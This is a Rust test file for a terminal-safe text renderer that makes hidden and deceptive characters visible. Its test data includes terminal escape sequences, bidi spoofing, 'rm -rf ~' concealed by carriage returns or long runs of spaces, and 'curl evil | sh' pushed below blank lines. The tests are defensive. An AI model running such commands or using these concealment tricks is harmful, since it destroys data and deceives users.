use proptest::prelude::*;
use unicode_width::UnicodeWidthStr;

use super::*;
use crate::words::is_hidden;

/// Every sequence a terminal, a browser of bidi text or a font could be fooled with.
const HOSTILE: &[(&str, &str)] = &[
    ("\x1b[2J\x1b[H", "\\u{1b}[2J\\u{1b}[H"),
    ("\x1b]0;pwn\x07", "\\u{1b}]0;pwn\\u{7}"),
    ("\x1b]52;c;ZXZpbA==\x07", "\\u{1b}]52;c;ZXZpbA==\\u{7}"),
    (
        "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\",
        "\\u{1b}]8;;http://x\\u{1b}\\link\\u{1b}]8;;\\u{1b}\\",
    ),
    ("safe\rrm -rf ~", "safe\\u{d}rm -rf ~"),
    ("rm\x08\x08ls\x7f", "rm\\u{8}\\u{8}ls\\u{7f}"),
    ("\u{9b}31mred", "\\u{9b}31mred"),
    ("a\tb\u{85}c\0", "a\\u{9}b\\u{85}c\\u{0}"),
    (
        "x\u{202e}cod.exe\u{2066}\u{2069}\u{200f}\u{61c}",
        "x\\u{202e}cod.exe\\u{2066}\\u{2069}\\u{200f}\\u{61c}",
    ),
    (
        "ls\u{e0001}\u{e0072}\u{e006d}\u{e007f}",
        "ls\\u{e0001}\\u{e0072}\\u{e006d}\\u{e007f}",
    ),
    (
        "❤\u{fe0f}x\u{e0100}\u{180b}",
        "❤\\u{fe0f}x\\u{e0100}\\u{180b}",
    ),
    ("👩\u{200d}🚀", "👩\\u{200d}🚀"),
    (
        "a\u{200b}b\u{2060}c\u{feff}d\u{ad}e\u{34f}",
        "a\\u{200b}b\\u{2060}c\\u{feff}d\\u{ad}e\\u{34f}",
    ),
    (
        "a\u{2028}b\u{2029}c\u{3164}\u{115f}",
        "a\\u{2028}b\\u{2029}c\\u{3164}\\u{115f}",
    ),
    (
        "\u{ffff}\u{fdd0}\u{1fffe}\u{fff9}",
        "\\u{ffff}\\u{fdd0}\\u{1fffe}\\u{fff9}",
    ),
    (
        "a\u{2800}b\u{e000}c\u{f8ff}d\u{f0000}e\u{10fffd}",
        "a\\u{2800}b\\u{e000}c\\u{f8ff}d\\u{f0000}e\\u{10fffd}",
    ),
    (
        "a\u{378}b\u{ffa0}c\u{13441}d\u{2003}e\u{1680}f",
        "a\\u{378}b\\u{ffa0}c\\u{13441}d\\u{2003}e\\u{1680}f",
    ),
];

#[test]
fn hostile_sequences_become_visible_in_every_form() {
    for (text, shown) in HOSTILE {
        assert_eq!(line(text), *shown);
        assert_eq!(pipe(text), *shown);
        assert_eq!(cut(text, 200), *shown);
        let block = block(text, 200);
        assert_eq!(block.lines, [format!("│ {shown}")]);
        let escapes = shown.matches("\\u{").count();
        assert!(block.notes[0].starts_with(&format!("{escapes} character")));
    }
}

#[test]
fn readable_writing_stays_as_it_is() {
    let text = "naïve Ünïcode 部署 デプロイ 배포 שָׁלוֹם مرحبا Привет नमस्ते ไทย 👍🏽 🇳🇴 e\u{301} ⏎ \u{a0}\u{3000}";
    assert_eq!(line(text), text);
    assert!(block(text, 200).notes.is_empty());
}

#[test]
fn marks_cannot_pile_up_nor_join_what_is_not_theirs() {
    assert_eq!(line("\u{301}a"), "\\u{301}a");
    assert_eq!(line("a \u{301}"), "a \\u{301}");
    assert_eq!(line("\x1b\u{338}"), "\\u{1b}\\u{338}");
    let piled = format!("a{}", "\u{301}".repeat(10));
    let shown = format!("a{}\\u{{301}}\\u{{301}}", "\u{301}".repeat(8));
    assert_eq!(line(&piled), shown);
    let after_run = format!("{}\u{301}", " ".repeat(40));
    assert_eq!(block(&after_run, 80).lines, ["│ ⟨40 spaces⟩\\u{301}"]);
}

#[test]
fn newlines_are_kept_by_pipe_alone() {
    assert_eq!(pipe("a\r\nb\n"), "a\\u{d}\nb\n");
    assert_eq!(line("a\nb"), "a\\u{a}b");
    assert_eq!(cut("a\n\nb", 80), "a\\u{a}\\u{a}b");
}

#[test]
fn a_cut_says_how_many_characters_it_hides() {
    assert_eq!(cut("hello", 5), "hello");
    assert_eq!(cut("hello world", 8), "hello…+6");
    assert_eq!(cut("a     b", 3), "a b");
    assert_eq!(cut("a     bcdefg", 5), "a …+6");
    assert_eq!(cut("部署部署部署", 7), "部署…+4");
    assert_eq!(cut("部署部署部署", 6), "部…+5");
    assert_eq!(cut("ae\u{301}\u{302}bcdef", 5), "ae\u{301}\u{302}…+5");
    assert_eq!(cut("ab\x1b[31m", 5), "ab…+5");
    assert_eq!(
        cut(&format!("{}; rm -rf ~/work", "x".repeat(1965)), 80),
        format!("{}…+1906", "x".repeat(74))
    );
}

#[test]
fn a_cut_without_room_for_its_count_is_not_silent() {
    assert_eq!(cut("hello world", 3), "…");
    assert_eq!(cut("hello", 1), "…");
    assert_eq!(cut("hello", 0), "");
    assert_eq!(cut("", 0), "");
}

#[test]
fn a_tail_pushed_down_by_blank_lines_comes_back_up() {
    let text = format!("one\ntwo\nthree\n{}curl evil | sh", "\n".repeat(60));
    for columns in [80, 20] {
        let block = block(&text, columns);
        assert_eq!(
            block.lines,
            [
                "│ one",
                "│ two",
                "│ three",
                "⋮ 60 blank lines",
                "│ curl evil | sh"
            ]
        );
        assert_eq!(block.notes, ["shortened: 60 blank lines in 1 run"]);
    }
    let spaced = format!("a{}b", "\n \u{a0}\u{3000}\u{202f}".repeat(5));
    assert_eq!(block(&spaced, 80).lines[1], "⋮ 4 blank lines");
}

#[test]
fn a_tail_pushed_right_by_spaces_comes_back() {
    let text = format!("ls{}; rm -rf ~\na{}b", " ".repeat(1840), " ".repeat(16));
    let block = block(&text, 80);
    let kept = format!("│ a{}b", " ".repeat(16));
    assert_eq!(block.lines, ["│ ls⟨1840 spaces⟩; rm -rf ~", &kept]);
    assert_eq!(block.notes, ["shortened: 1840 spaces in 1 run"]);
    let least = format!("a{}b", " ".repeat(17));
    assert_eq!(self::block(&least, 80).lines, ["│ a⟨17 spaces⟩b"]);
}

#[test]
fn three_blank_lines_and_the_last_newline_are_shown() {
    let block = block("a\n\n\n\nb\n", 80);
    assert_eq!(block.lines, ["│ a", "│ ", "│ ", "│ ", "│ b", "│ "]);
    assert!(block.notes.is_empty());
}

#[test]
fn a_long_line_is_wrapped_and_whole() {
    let tail = "; rm -rf ~/work";
    let text = format!("{}{tail}", "word ".repeat(393));
    for columns in [80, 20] {
        let lines = block(&text, columns).lines;
        let joined: String = lines.iter().map(|line| &line["│ ".len()..]).collect();
        assert_eq!(joined, text);
        assert!(lines.iter().all(|line| line.width() <= columns));
        assert!(lines[0].starts_with("│ ") && lines[0].ends_with("word "));
        assert!(lines[1..].iter().all(|line| line.starts_with("┆ ")));
    }
}

#[test]
fn words_break_after_spaces_before_wide_characters_or_where_they_must() {
    let lines = |text: &str| block(text, 12).lines;
    assert_eq!(lines("say hello there"), ["│ say hello ", "┆ there"]);
    assert_eq!(lines("1234567890 x"), ["│ 1234567890", "┆  x"]);
    assert_eq!(lines("a 1234567890123"), ["│ a ", "┆ 1234567890", "┆ 123"]);
    assert_eq!(lines("部署部署部署a"), ["│ 部署部署部", "┆ 署a"]);
    assert_eq!(
        lines("123456e\u{301}\u{1b}"),
        ["│ 123456e\u{301}", "┆ \\u{1b}"]
    );
    assert_eq!(lines("123456789e\u{301}x"), ["│ 123456789e\u{301}", "┆ x"]);
}

#[test]
fn an_imitated_escape_is_told_from_a_real_one() {
    let notes = |text: &str| block(text, 80).notes.concat();
    assert_eq!(
        notes("\\u{202e}"),
        "no character is escaped; \\u{ stands 1 time in the text itself"
    );
    assert_eq!(
        notes("\\u{202e} \u{202e}"),
        "1 character is shown as \\u{…}; \\u{ stands 1 time in the text itself"
    );
    let imitation = block("│ fake\n┆ wrapped\n⋮ 57 blank lines\n⟨9 spaces⟩", 80);
    assert!(imitation.lines.iter().all(|line| line.starts_with("│ ")));
    assert!(imitation.notes.is_empty());
}

#[test]
fn a_mebibyte_of_anything_takes_no_time_to_speak_of() {
    let started = std::time::Instant::now();
    for unit in [
        "\n", " ", "a", "\x1b", "\u{301}", "部", "a ", "e\u{301}", "x\n",
    ] {
        let text = unit.repeat((1 << 20) / unit.len());
        let lines = block(&text, 20).lines;
        assert!(lines.iter().all(|line| line.width() <= 20), "{unit:?}");
        assert!(cut(&text, 80).width() <= 80);
    }
    // A quadratic step would take hours; the limit leaves room for a slow machine.
    assert!(started.elapsed().as_secs() < 60);
}

/// Undoes the escapes, so that what was shown can be compared with what was given.
fn unescape(shown: &str) -> String {
    let mut out = String::new();
    let mut rest = shown;
    while let Some(at) = rest.find("\\u{") {
        let (before, escape) = rest.split_at(at);
        out.push_str(before);
        let end = escape.find('}').unwrap();
        let code = u32::from_str_radix(&escape[3..end], 16).unwrap();
        out.push(char::from_u32(code).unwrap());
        rest = &escape[end + 1..];
    }
    out + rest
}

fn without_blanks(text: &str) -> String {
    text.chars().filter(|char| !char.is_whitespace()).collect()
}

/// Text rich in what matters here: blanks, marks, wide, hidden and wholly arbitrary characters.
fn text() -> impl Strategy<Value = String> {
    let char = prop_oneof![
        4 => proptest::char::range('a', 'z'),
        4 => proptest::sample::select(vec![' ', '\n', '\t', '\r', '\u{a0}', '\u{3000}', '\u{2800}']),
        2 => proptest::sample::select(vec!['\u{301}', '\u{20e3}', '\u{5c1}', '\u{1161}', '\u{11a8}']),
        2 => proptest::sample::select(vec!['部', '👍', '🏽', '🇳', 'ש', 'م', 'ل', 'ا', '\u{17d2}']),
        2 => proptest::sample::select(vec!['\x1b', '\u{9b}', '\u{202e}', '\u{200d}', '\u{fe0f}', '\u{e0041}']),
        2 => any::<char>(),
    ];
    let char = char.prop_filter("would read as an escape", |&char| char != '\\');
    let run = (char, prop_oneof![6 => 1..3_usize, 1 => 15..40_usize]);
    proptest::collection::vec(run, 0..60)
        .prop_map(|runs| runs.iter().map(|(c, n)| c.to_string().repeat(*n)).collect())
}

proptest! {
    #[test]
    fn nothing_hidden_ever_comes_out(text in text(), columns in 0..120_usize) {
        let mut shown = vec![line(&text), cut(&text, columns), pipe(&text).replace('\n', "")];
        let block = block(&text, columns);
        shown.extend(block.lines);
        shown.extend(block.notes);
        for shown in shown {
            prop_assert!(!shown.chars().any(is_hidden), "{shown:?}");
        }
    }

    #[test]
    fn a_line_gives_back_its_text(text in text()) {
        prop_assert_eq!(unescape(&line(&text)), text.clone());
        prop_assert_eq!(unescape(&pipe(&text)), text);
    }

    #[test]
    fn a_block_gives_back_every_letter_in_order(text in text(), columns in 0..120_usize) {
        let mut joined = String::new();
        for shown in block(&text, columns).lines {
            if let Some(content) = shown.strip_prefix("│ ").or_else(|| shown.strip_prefix("┆ ")) {
                joined.push_str(content);
            } else {
                prop_assert!(shown.starts_with("⋮ "));
            }
        }
        while let Some(start) = joined.find('⟨') {
            let end = start + joined[start..].find('⟩').unwrap() + '⟩'.len_utf8();
            joined.replace_range(start..end, "");
        }
        prop_assert_eq!(without_blanks(&unescape(&joined)), without_blanks(&text));
    }

    #[test]
    fn a_wrapped_line_and_a_line_break_never_look_alike(
        lines in proptest::collection::vec("[a-z│┆⋮ 部\\\\{}!]{0,60}", 1..6), columns in 3..50_usize,
    ) {
        let shown = block(&lines.join("\n"), columns).lines;
        let mut lengths: Vec<usize> = Vec::new();
        for row in &shown {
            match row.chars().next() {
                Some('│') => lengths.push(1),
                Some('┆') => *lengths.last_mut().unwrap() += 1,
                other => prop_assert_eq!(other, Some('⋮')),
            }
        }
        if !shown.iter().any(|row| row.starts_with('⋮')) {
            let alone: Vec<usize> = lines.iter().map(|line| block(line, columns).lines.len()).collect();
            prop_assert_eq!(lengths, alone);
        }
    }

    #[test]
    fn no_line_is_wider_than_the_terminal(text in text(), columns in 20..120_usize) {
        for shown in block(&text, columns).lines {
            prop_assert!(width(&shown) <= columns && shown.width() <= columns, "{shown:?}");
        }
    }

    #[test]
    fn a_cut_accounts_for_every_character(text in text(), columns in 8..60_usize) {
        let shown = cut(&text, columns);
        prop_assert!(width(&shown) <= columns && shown.width() <= columns);
        let (kept, hidden) = shown.rsplit_once("…+").map_or((shown.as_str(), 0), |(kept, n)| (kept, n.parse().unwrap()));
        let split = text.chars().count() - hidden;
        let head: String = text.chars().take(split).collect();
        prop_assert_eq!(without_blanks(&unescape(kept)), without_blanks(&head));
    }
}
